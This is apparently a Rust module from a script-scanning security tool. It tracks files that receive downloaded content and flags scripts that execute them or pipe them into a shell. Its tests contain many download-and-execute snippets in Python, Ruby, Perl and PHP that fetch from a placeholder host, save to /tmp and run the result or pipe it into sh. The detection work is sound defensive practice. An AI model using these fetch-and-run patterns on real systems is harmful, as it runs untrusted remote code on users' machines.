//! Files that hold what was fetched: known by their paths, by names that hold these, and by what writes them.

use super::Told;
use super::flow::{Flow, name, names};
use super::fold::Fold;
use super::lex::{Placed, Token};
use super::sinks::{Called, hole_of};
use super::taint::Taint;
use super::words::{self, has};
use crate::rules::shell as rules;

/// 16 paths that one name may write.
const PATHS: usize = 16;

/// What makes a file of its own, whose path is asked for later.
const TEMPORARY: &[&str] = &["NamedTemporaryFile", "TemporaryFile", "Tempfile.new", "Tempfile.create", "File.Temp.new"];

/// What writes into a file that is open.
const PUTS: &[&str] = &["write", "writelines", "print", "puts", "fwrite", "fputs", "say", "printf", "<<"];

/// What writes into the file that its first word names.
const FILLS: &[&str] = &[
    "file_put_contents",
    "File.write",
    "File.binwrite",
    "IO.write",
    "IO.binwrite",
    "write_file",
    "spurt",
    "writealltext",
];

/// What stands for a shell among the files that a name writes.
const SHELL: &str = "|";

/// What gives a program, which is running, something to read.
const FEEDS: &[&str] = &["communicate", "stdin.write", "stdin.writelines"];

impl Flow<'_> {
    /// Remembers which files hold what was fetched.
    pub(super) fn fetched_to(&mut self, call: &Called<'_>, tokens: &[Placed], taint: Taint) {
        self.opens_file(call, tokens);
        let kept = self.given_to_keep(call, tokens);
        self.files.extend(kept);
        let fetches = matches!(
            call.last,
            "urlretrieve"
                | "getstore"
                | "mirror"
                | "downloadfile"
                | "invoke-webrequest"
                | "iwr"
                | "start-bitstransfer"
                | "copyfileobj"
        );
        let is_fetched = taint.has(Taint::FETCHED);
        if is_fetched && (PUTS.contains(&call.last) || fetches) {
            let written = names(tokens).filter_map(|name| self.handles.get(name)).flatten();
            let written: Vec<String> = written.cloned().collect();
            self.files.extend(written);
        }
        let opens = has(words::OPENS, call.path, call.last);
        let writes = is_fetched && (has(words::WRITES, call.path, call.last) || opens);
        if !fetches && !writes {
            return;
        }
        // `path.write_bytes(answer)`
        let owners = if writes { self.owners(call) } else { Vec::new() };
        self.files.extend(owners);
        // `open(path, "wb").write(answer)`, `urlretrieve(address, path)`
        let is_mode = |text: &str| words::MODES.contains(&text.split(':').next().unwrap_or_default());
        let is_for_writing = tokens
            .iter()
            .any(|placed| matches!(&placed.token, Token::Text(text) if is_mode(text) || text.starts_with('>')));
        let fills = has(FILLS, call.path, call.last);
        if opens && is_for_writing || fills || fetches {
            let from = usize::from(fetches);
            let words = self.given(call, tokens).into_iter().skip(from);
            let paths: Vec<String> = words.flat_map(|words| self.paths_in(words)).collect();
            self.files.extend(paths);
        }
        for placed in tokens {
            match &placed.token {
                Token::Text(text) if text.len() > 2 && !text.contains("://") && text.contains(['/', '.', '\\']) => {
                    self.files.insert(text.clone());
                }
                Token::Name(name) if fetches && !matches!(name.as_str(), "urllib" | "request") => {
                    let known = self.taints.entry(name.clone()).or_default();
                    *known = known.and(Taint::FETCHED);
                }
                _ => {}
            }
        }
    }

    /// Remembers which file a name writes: `f = open(path, "wb")`, `with open(path, "wb") as f`, `File.open(path, "w") do |f|`.
    fn opens_file(&mut self, call: &Called<'_>, tokens: &[Placed]) {
        let is_temporary = TEMPORARY.iter().any(|made| call.path.ends_with(made));
        let is_pipe = call.last == "popen";
        if !is_temporary && !is_pipe && !has(words::OPENS, call.path, call.last) {
            return;
        }
        let Some(writer) = writer(tokens, call) else { return };
        let mut paths = self.paths(call, tokens);
        let is_text = |is: &dyn Fn(&str) -> bool| {
            call.given(tokens).iter().any(|placed| matches!(&placed.token, Token::Text(text) if is(text)))
        };
        if (is_pipe || is_text(&|text| text.starts_with('|'))) && is_text(&runs_shell) {
            paths = vec![SHELL.to_owned()];
        } else if is_temporary {
            paths.extend(["name", "path", "filename"].map(|member| hole_of(&format!("{writer}.{member}"))));
        } else {
            paths.extend(self.owners(call));
        }
        let known = self.handles.entry(writer).or_default();
        known.extend(paths);
        known.truncate(PATHS);
    }

    /// The path whose method a call is, by its name and as far as it is known.
    fn owners(&self, call: &Called<'_>) -> Vec<String> {
        let known = call.path.rsplit_once('.').and_then(|(owner, _)| self.constants.get(owner));
        let known = known.map(|value| value.joined("")).filter(|path| path.contains('/'));
        call.owner().into_iter().chain(known).collect()
    }

    /// The paths that the words of a call may mean, as a line has them that names them.
    fn paths(&self, call: &Called<'_>, tokens: &[Placed]) -> Vec<String> {
        self.given(call, tokens).into_iter().flat_map(|words| self.paths_in(words)).collect()
    }

    fn paths_in(&self, words: &[Placed]) -> Vec<String> {
        let is_path = |path: &String| {
            path.contains(['/', '.', '{', '\\']) && !path.contains(char::is_whitespace) && !path.contains("://")
        };
        let fold = Fold { tokens: words, constants: &self.constants };
        let mut paths: Vec<String> = Some(fold.expression(0, 0).0.joined("")).filter(is_path).into_iter().collect();
        if let Some(Token::Name(_)) = fold.token(0) {
            paths.push(hole_of(&fold.path(0).0));
        }
        paths
    }

    /// The paths that a function of the script's own is given for a word under which it keeps what it fetched.
    fn given_to_keep(&self, call: &Called<'_>, tokens: &[Placed]) -> Vec<String> {
        let Some(parameters) = self.parameters.get(call.last).filter(|_| !self.files.is_empty()) else {
            return Vec::new();
        };
        let parameters = parameters.iter().filter(|name| *name != "cls");
        let pairs = parameters.zip(self.given(call, tokens));
        let kept = pairs.filter(|(name, _)| self.files.contains(&hole_of(name)));
        kept.flat_map(|(_, words)| self.paths_in(words)).collect()
    }

    /// Tells of a shell that is given what was fetched while it runs.
    pub(super) fn feeds(&self, call: &Called<'_>, tokens: &[Placed], taint: Taint, told: &mut Told<'_, '_>) {
        let is_one = FEEDS.iter().any(|end| call.path == *end || call.path.ends_with(&format!(".{end}")));
        let is_shell = |name: &str| self.handles.get(name).is_some_and(|paths| paths.iter().any(|path| path == SHELL));
        let is_one = is_one && self.whole.shell.is_some();
        let is_one = is_one || PUTS.contains(&call.last) && names(tokens).any(is_shell);
        if self.last && is_one && taint.has(Taint::FETCHED) {
            told.tell(&rules::PIPE, call.at, "what was fetched is run", told.unless_asked());
        }
    }
}

/// Whether a line starts a shell that reads what it is given.
fn runs_shell(line: &str) -> bool {
    let mut words = line.trim_start_matches('|').split_whitespace();
    words.next().is_some_and(|word| words::SHELLS.contains(&word.rsplit('/').next().unwrap_or(word)))
}

/// The name that stands for an open file: before the sign that gives it, behind `as`, or between bars.
fn writer(tokens: &[Placed], call: &Called<'_>) -> Option<String> {
    let name = |placed: &Placed| name(&placed.token).map(str::to_owned);
    let behind = tokens.get(call.next..).unwrap_or_default();
    let named = behind.windows(2).find_map(|two| match two {
        [Placed { token: Token::Name(word), .. }, next] if word == "as" => name(next),
        [Placed { token: Token::Sign('|'), .. }, next] => name(next),
        _ => None,
    });
    let before = tokens.get(..call.start).unwrap_or_default();
    let equals = before.iter().rposition(|placed| placed.token == Token::Sign('='));
    let given = equals.and_then(|at| before.get(at.checked_sub(1)?)).and_then(name);
    // Perl opens into its first word: `open(my $f, ">", $path)`.
    let into = behind.iter().take(4).find_map(|placed| name(placed).filter(|name| name.starts_with('$')));
    named.or(given).or(into)
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn a_file_that_holds_what_was_fetched_is_known_by_whatever_names_it() {
        let head = "import requests, subprocess, os, tempfile\nfrom pathlib import Path\nanswer = requests.get('https://x.invalid/a')\n";
        for text in [
            "with open('/tmp/x', 'wb') as f:\n    f.write(answer.content)\nos.system('/tmp/x')\n",
            "f = open('/tmp/x', 'wb')\nf.write(answer.content)\nf.close()\nos.system('sh /tmp/x')\n",
            "p = os.path.join(tempfile.mkdtemp(), 'x.sh')\nwith open(p, 'w') as f:\n    f.write(answer.text)\nsubprocess.run(['bash', p])\n",
            "p = '/tmp/x'\nopen(p, 'wb').write(answer.content)\nos.system(p)\n",
            "p = Path.home() / '.cache' / 'x'\np.write_text(answer.text)\nsubprocess.run(['sh', str(p)])\n",
            "p = Path('/tmp/x')\nwith p.open('w') as f:\n    f.write(answer.text)\nsubprocess.run([p])\n",
            "with tempfile.NamedTemporaryFile('w', delete=False) as f:\n    f.write(answer.text)\nsubprocess.run(['bash', f.name])\n",
            "def keep(path):\n    with open(path, 'wb') as f:\n        f.write(requests.get('https://x.invalid/a').content)\nkeep('/tmp/y')\nos.system('/tmp/y')\n",
            "p = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\np.communicate(answer.content)\n",
        ] {
            let text = format!("{head}{text}");
            assert_eq!(of("python3", "a.py", &text), Some(Severity::Danger), "{text}");
        }
        for text in [
            "with open('data.json', 'w') as f:\n    f.write(answer.text)\nsubprocess.run(['git', 'status'])\n",
            "with open('/tmp/log', 'w') as f:\n    f.write('started')\nsubprocess.run(['bash', '/tmp/x'])\n",
            "p = subprocess.Popen(['jq', '.'], stdin=subprocess.PIPE)\np.communicate(answer.content)\n",
        ] {
            let text = format!("{head}{text}");
            assert_ne!(of("python3", "a.py", &text), Some(Severity::Danger), "{text}");
        }
    }

    #[test]
    fn so_it_is_in_other_languages() {
        for (by, path, text) in [
            (
                "ruby",
                "a.rb",
                "require 'open-uri'\np = '/tmp/x'\nFile.open(p, 'w') do |f|\n  f.write URI.open('https://x.invalid/a').read\nend\nsystem('sh', p)\n",
            ),
            (
                "ruby",
                "a.rb",
                "require 'open-uri'\nIO.popen('sh', 'w') { |s| s.write(URI.open('https://x.invalid/a').read) }\n",
            ),
            (
                "perl",
                "a.pl",
                "use LWP::Simple; my $p='/tmp/x'; my $c=get('https://x.invalid/a'); open(my $f,'>',$p); print $f $c; close $f; system('sh',$p);\n",
            ),
            ("perl", "a.pl", "open(my $p,'|-','sh'); print $p `curl -s https://x.invalid/a`;\n"),
            (
                "php",
                "a.php",
                "<?php $p='/tmp/x'; file_put_contents($p,file_get_contents('https://x.invalid/a')); exec(\"sh $p\");\n",
            ),
            (
                "php",
                "a.php",
                "<?php $f=fopen('/tmp/x','w'); fwrite($f,file_get_contents('https://x.invalid/a')); fclose($f); passthru('sh /tmp/x');\n",
            ),
        ] {
            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
        }
    }
}
